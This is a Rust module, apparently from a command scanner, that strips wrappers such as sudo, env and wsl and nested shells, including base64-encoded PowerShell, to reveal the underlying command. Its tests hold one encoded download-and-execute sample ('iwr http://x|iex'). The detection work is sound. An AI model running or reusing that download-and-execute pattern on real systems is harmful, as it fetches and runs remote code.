//! Takes wrappers and shells off, down to the commands that do the work.

use base64::Engine as _;

use super::{
    observed::Variable,
    options::{self, Word},
    program,
    shell::{self, Joint, Step},
};

/// Shells within shells.
const MAX_DEPTH: usize = 6;
/// Bytes of an encoded command that are decoded.
const MAX_ENCODED: usize = 64 * 1024;

const SHELLS: [&str; 9] = ["sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "busybox", "rbash"];

#[derive(Default)]
pub(crate) struct Unpacked {
    pub(crate) steps: Vec<Step>,
    pub(crate) programs: Vec<String>,
    pub(crate) env: Vec<Variable>,
    pub(crate) raised: Option<String>,
}

impl Unpacked {
    /// One command, already in words.
    pub(crate) fn command(&mut self, mut words: Vec<String>, joint: Joint, depth: usize) {
        // Each turn takes at least one word off.
        while let Some(inner) = self.unwrap(&words) {
            words = inner;
        }
        let Some(first) = words.first() else { return };
        let name = program(first);
        let script = if depth < MAX_DEPTH { script_of(&name, &words) } else { None };
        self.steps.push(Step { words, joint });
        if let Some(script) = script {
            self.script(&script, depth);
        }
    }

    fn script(&mut self, script: &str, depth: usize) {
        self.programs.push(script.to_owned());
        let read = shell::read(script);
        // Numbers of commands in the script become numbers among all steps. A shell within adds steps of its own.
        let mut places = Vec::with_capacity(read.len());
        for step in read {
            places.push(self.steps.len());
            let joint = match step.joint {
                Joint::Start => Joint::Then,
                Joint::Into(parent) => Joint::Into(places.get(parent).copied().unwrap_or_default()),
                other => other,
            };
            if step.words.is_empty() {
                self.steps.push(Step { words: Vec::new(), joint });
            } else {
                self.command(step.words, joint, depth.saturating_add(1));
            }
        }
    }

    /// What a wrapper runs; `None` if the command is no wrapper.
    fn unwrap(&mut self, words: &[String]) -> Option<Vec<String>> {
        let (first, after) = words.split_first()?;
        // `NAME=value command`
        if let Some(variable) = assignment(first) {
            self.env.push(variable);
            return (!after.is_empty()).then(|| after.to_vec());
        }
        let rest = |takes_value: &[&str], skip: usize| {
            let found = options::walk(after, |option| takes_value.contains(&option));
            match found.last() {
                Some(Word::Rest(rest)) => rest.get(skip..).map(<[String]>::to_vec),
                _ => None,
            }
        };
        let inner = match program(first).as_str() {
            name @ ("sudo" | "doas" | "pkexec") => {
                let values = ["-u", "-g", "-h", "-p", "-C", "-T", "-D", "-R", "--user", "--group"];
                let found = options::walk(after, |option| values.contains(&option));
                let other_user = found.iter().any(|word| {
                    matches!(word, Word::Option("-u" | "--user", Some(user)) if *user != "root" && *user != "0")
                });
                if !other_user {
                    self.raised = Some(name.to_owned());
                }
                rest(&values, 0)
            }
            "env" => rest(&["-u", "--unset", "-C", "--chdir"], 0),
            "nohup" | "exec" | "time" | "command" | "setsid" | "xvfb-run" | "caffeinate" => rest(&[], 0),
            "nice" | "ionice" => rest(&["-n", "-c"], 0),
            "stdbuf" => rest(&["-i", "-o", "-e"], 0),
            "wsl" => rest(&["-d", "--distribution", "-u", "--user", "--cd", "--shell-type"], 0),
            "timeout" => rest(&["-s", "-k", "--signal", "--kill-after"], 1),
            // Programs that fetch secrets and hand them on: what is run stands after `--`.
            "op" | "doppler" | "infisical" | "dotenv" | "dotenvx" | "aws-vault" | "chamber" => {
                let at = after.iter().position(|word| word == "--")?;
                after.get(at.saturating_add(1)..).map(<[String]>::to_vec)
            }
            _ => None,
        }?;
        (!inner.is_empty() && inner.len() < words.len()).then_some(inner)
    }
}

fn assignment(word: &str) -> Option<Variable> {
    let (name, value) = word.split_once('=')?;
    let mut chars = name.chars();
    let starts = chars.next().is_some_and(|c| c.is_ascii_alphabetic() || c == '_');
    (starts && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')).then(|| Variable {
        name: name.to_owned(),
        value: value.to_owned(),
        length: u64::try_from(value.chars().count()).ok(),
        literal: true,
    })
}

/// The text that this command hands to a shell.
fn script_of(name: &str, words: &[String]) -> Option<String> {
    let after = words.get(1..)?;
    if SHELLS.contains(&name) {
        // `-c`, and clusters such as `-lc`.
        let at = after.iter().position(|word| {
            word.strip_prefix('-').is_some_and(|letters| {
                !letters.starts_with('-') && letters.chars().all(char::is_alphabetic) && letters.contains('c')
            })
        })?;
        return after.get(at.saturating_add(1)).cloned();
    }
    match name {
        "cmd" => {
            let at = after.iter().position(|word| {
                matches!(word.to_ascii_lowercase().as_str(), "/c" | "/k" | "/r" | "/s/c" | "/d/c")
            })?;
            let rest = after.get(at.saturating_add(1)..)?;
            match rest {
                [one] => Some(one.clone()),
                many => Some(many.iter().map(|word| quoted(word)).collect::<Vec<_>>().join(" ")),
            }
        }
        "powershell" | "pwsh" => {
            for (index, word) in after.iter().enumerate() {
                let option = word.trim_start_matches(['-', '/']).to_ascii_lowercase();
                let rest = || after.get(index.saturating_add(1)..).unwrap_or_default().join(" ");
                if !word.starts_with(['-', '/']) || option.is_empty() {
                    continue;
                }
                if "encodedcommand".starts_with(&option) || option == "ec" {
                    return decoded(after.get(index.saturating_add(1))?);
                }
                if "command".starts_with(&option) {
                    return Some(rest());
                }
            }
            None
        }
        _ => None,
    }
}

/// The word so that a shell reads it as one.
fn quoted(word: &str) -> String {
    if word.contains(char::is_whitespace) && !word.contains('\'') {
        format!("'{word}'")
    } else {
        word.to_owned()
    }
}

/// PowerShell's encoded commands are base64 of UTF-16.
fn decoded(word: &str) -> Option<String> {
    if word.len() > MAX_ENCODED {
        return None;
    }
    let bytes = base64::engine::general_purpose::STANDARD.decode(word.trim()).ok()?;
    let units: Vec<u16> = bytes
        .chunks_exact(2)
        .map(|pair| {
            u16::from_le_bytes([pair.first().copied().unwrap_or(0), pair.get(1).copied().unwrap_or(0)])
        })
        .collect();
    Some(String::from_utf16_lossy(&units))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn unpacked(line: &[&str]) -> Unpacked {
        let mut unpacked = Unpacked::default();
        unpacked.command(line.iter().map(|&word| word.to_owned()).collect(), Joint::Start, 0);
        unpacked
    }

    fn last(line: &[&str]) -> String {
        unpacked(line).steps.last().map(|step| step.words.join(" ")).unwrap_or_default()
    }

    #[test]
    fn wrappers_and_shells_are_taken_off() {
        for line in [
            &["npx", "-y", "pkg"][..],
            &["cmd", "/c", "npx", "-y", "pkg"],
            &["cmd.exe", "/C", "npx -y pkg"],
            &["env", "A=b", "npx", "-y", "pkg"],
            &["bash", "-lc", "cd /srv && exec npx -y pkg"],
            &["sudo", "-E", "npx", "-y", "pkg"],
            &["timeout", "-k", "5", "30", "npx", "-y", "pkg"],
            &["wsl.exe", "-d", "Ubuntu", "bash", "-c", "npx -y pkg"],
            &["op", "run", "--env-file", "x", "--", "npx", "-y", "pkg"],
            &["powershell", "-NoProfile", "-Command", "npx -y pkg"],
        ] {
            assert_eq!(last(line), "npx -y pkg", "{line:?}");
        }
    }

    #[test]
    fn sudo_is_raised_only_where_it_makes_an_administrator() {
        assert!(unpacked(&["sudo", "npx", "a"]).raised.is_some());
        assert!(unpacked(&["sudo", "-u", "nobody", "npx", "a"]).raised.is_none());
    }

    #[test]
    fn an_encoded_command_is_read() {
        // iwr http://x|iex
        let word = base64::engine::general_purpose::STANDARD
            .encode("iwr http://x|iex".encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>());
        let found = unpacked(&["powershell", "-enc", &word]);
        assert_eq!(found.steps[1].words, ["iwr", "http://x"]);
        assert_eq!(found.steps[2].joint, Joint::Pipe);
    }

    #[test]
    fn shells_within_shells_end() {
        let mut line = "true".to_owned();
        for _ in 0..12 {
            line = format!("sh -c '{}'", line.replace('\'', "'\\''"));
        }
        assert!(unpacked(&["sh", "-c", &line]).steps.len() < 100);
    }
}
